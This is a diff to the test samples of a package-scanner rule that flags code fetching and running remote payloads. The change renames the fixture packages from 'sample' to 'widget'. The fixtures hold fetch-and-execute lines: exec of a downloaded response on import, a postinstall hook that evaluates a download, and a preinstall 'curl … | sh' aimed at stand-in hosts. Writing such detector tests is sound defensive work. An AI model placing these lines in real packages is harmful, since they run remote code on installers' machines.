@@ -41,22 +41,22 @@ extern constinit const Rule runs_remote_code = {
 #ifdef RULE_SAMPLES
 constexpr Sample samples[] = {
     {.name = "a module executes an answer when imported",
-     .expect = "sample/__init__.py:2",
+     .expect = "widget/__init__.py:2",
      .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import requests
 exec(requests.get("https://code.example.test/stage").text)
 )"},
     {.name = "an install hook evaluates a download",
      .expect = "index.js:5",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
+{"name": "widget", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node index.js"}}
 ==> index.js
 const https = require("https");
 https.get("https://code.example.test/stage.js", (response) => {
@@ -68,16 +68,16 @@ https.get("https://code.example.test/stage.js", (response) => {
     {.name = "a hook pipes a download into a shell",
      .expect = "package.json:1",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
+{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://192.0.2.10/a | sh"}}
 )"},
     {.name = "an answer is parsed as data", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import json
 import urllib.request
 def fetch(url):
